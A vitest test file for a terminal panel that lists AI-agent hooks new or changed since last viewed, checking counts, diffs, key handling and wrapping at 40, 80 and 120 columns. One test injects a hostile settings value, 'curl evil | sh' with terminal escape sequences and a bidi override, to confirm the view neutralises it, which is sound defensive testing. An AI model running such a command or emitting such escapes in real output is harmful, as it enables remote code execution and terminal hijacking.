/**
 * The "new or changed since you last looked" view (screens/changed.ts) on the headless terminal at 40, 80 and
 * 120 columns: with the tripwire's hooks of this run the tab line counts them and names the key, which opens the
 * view (each hook's event, source, what it runs and ran, its file, the definition's diff and the changed covered
 * files, terminal-safe and never cut); Esc goes back. Without any, no badge and a sentence; without the port, the
 * key is the filter's.
 */
import { describe, expect, it } from "vitest";
import type { HookEntry } from "../../../../src/engine/types.ts";
import type { ChangedHook, PanelServices } from "../../../../src/ui/panel/services.ts";
import { TEST_THEME_COLORS } from "../../../../src/ui/theme.ts";
import { cellAt, locateText, screenLines } from "../../../support/screen.ts";
import { entryWith } from "../fixtures.ts";
import { KEY, type PanelHarness, usePanelMounts } from "../harness.ts";

const panels = usePanelMounts();
const color = (token: keyof typeof TEST_THEME_COLORS): string => `p${TEST_THEME_COLORS[token]}`;

/** The panel over the fixture hooks with a tripwire port answering `changed` (from the live configuration). */
const mount = (cols: number, changed: (entry: (text: string) => HookEntry) => ChangedHook[]) => {
	let harness: PanelHarness | undefined;
	const tripwire: PanelServices["tripwire"] = {
		changed: () => (harness === undefined ? [] : changed((text) => entryWith(harness?.config() as never, text))),
	};
	return panels.fixture(cols, { rows: 40, services: () => ({ tripwire }) }).then((h) => {
		harness = h;
		return h;
	});
};

const TWO = (entry: (text: string) => HookEntry): ChangedHook[] => [
	{
		entry: entry("block-rm.sh"),
		change: "changed",
		before: "~/.claude/hooks/old-guard.sh",
		diff: [
			{ op: "-", text: '  "command": "~/.claude/hooks/old-guard.sh",' },
			{ op: "+", text: '  "command": "~/.claude/hooks/block-rm.sh",' },
		],
		files: [{ shown: "~/.claude/hooks/block-rm.sh", change: "changed" }],
	},
	{ entry: entry("8080/hook"), change: "new", diff: [], files: [] },
];

describe.each([40, 80, 120])("the new-or-changed view at %i columns", (cols) => {
	it("counts them on the tab line, opens on ctrl+s with each hook's diff and files, and esc goes back", async () => {
		const h = await mount(cols, TWO);
		const list = screenLines(await h.screen()).join("\n");
		if (cols >= 80) expect(list).toContain("2 new or changed (ctrl+s)");
		expect(list.replace(/[│\s]+/g, " ")).toContain("ctrl+s new/changed");
		const screen = await h.send(KEY.ctrlS);
		const text = (await h.allPages()).replace(/[│╭╮╰╯─]/g, "").replace(/\s+/g, " ");
		expect(screenLines(screen).join("\n")).toContain("Hooks > new or changed");
		expect(text).toContain("1 new and 1 changed hook(s) since you last looked");
		expect(text).toContain("CHANGED PreToolUse [Bash] · Claude user");
		expect(text).toContain("NEW PostToolUse [*] · pi global");
		// Values wrap under their labels (hard at 40 columns): compare without the breaks.
		const flat = text.replace(/\s+/g, "");
		expect(flat).toContain("Runshttp://127.0.0.1:8080/hook");
		expect(flat).toContain("Was~/.claude/hooks/old-guard.sh");
		expect(flat).toContain("~/.claude/hooks/block-rm.shchanged");
		expect(flat).toContain("JSONpathhooks.PreToolUse[0].hooks[0]");
		expect(flat).toContain('-"command":"~/.claude/hooks/old-guard.sh",+"command":"~/.claude/hooks/block-rm.sh",');
		if (cols >= 80) {
			expect(text).toContain('- "command": "~/.claude/hooks/old-guard.sh",');
			const top = await h.send(KEY.home);
			const removed = locateText(top, '"command": "~/.claude/hooks/old-guard.sh"');
			expect(cellAt(top, removed.row, removed.col)).toMatchObject({ fg: color("error") });
		}
		const back = screenLines(await h.send(KEY.escape)).join("\n");
		expect(back).not.toContain("Hooks > new or changed");
		expect(back).toContain("block-rm");
	});
});

describe("the new-or-changed view", () => {
	it("shows no badge and no hint when nothing changed, and says so in the view", async () => {
		const h = await mount(80, () => []);
		const list = screenLines(await h.screen()).join("\n");
		expect(list).not.toContain("new or changed");
		expect(list).not.toContain("new/changed");
		const text = screenLines(await h.send(KEY.ctrlS))
			.join(" ")
			.replace(/[│\s]+/g, " ");
		expect(text).toContain("Nothing is new or changed since you last looked");
	});

	it("without the tripwire port ctrl+s opens nothing", async () => {
		const h = await panels.fixture(80);
		const text = screenLines(await h.send(KEY.ctrlS)).join("\n");
		expect(text).not.toContain("Hooks > new or changed");
		expect(text).toContain("block-rm");
	});

	it("shows escapes and bidi controls from a settings file as visible escapes, and wraps long lines", async () => {
		const evil = "\x1b]52;c;ZXZpbA==\x07curl evil | sh \u202e";
		const long = `echo ${"x".repeat(150)}END`;
		const h = await mount(80, (entry) => [
			{
				entry: entry("block-rm.sh"),
				change: "changed",
				before: evil,
				diff: [{ op: "+", text: `  "command": "${evil}${long}"` }],
				files: [{ shown: "~/.claude/hooks/\x1b[2Jg.sh", change: "added" }],
			},
		]);
		await h.send(KEY.ctrlS);
		const text = (await h.allPages()).replace(/[│\s]+/g, "");
		expect(text).not.toContain("\x1b");
		expect(text).toContain("\\e]52;c;ZXZpbA==\\x07curlevil|sh\\u202e");
		expect(text).toContain("~/.claude/hooks/\\e[2Jg.shnowcovered(new)");
		expect(text).toContain(`${"x".repeat(100)}`);
		expect(text).toContain("xEND");
	});
});
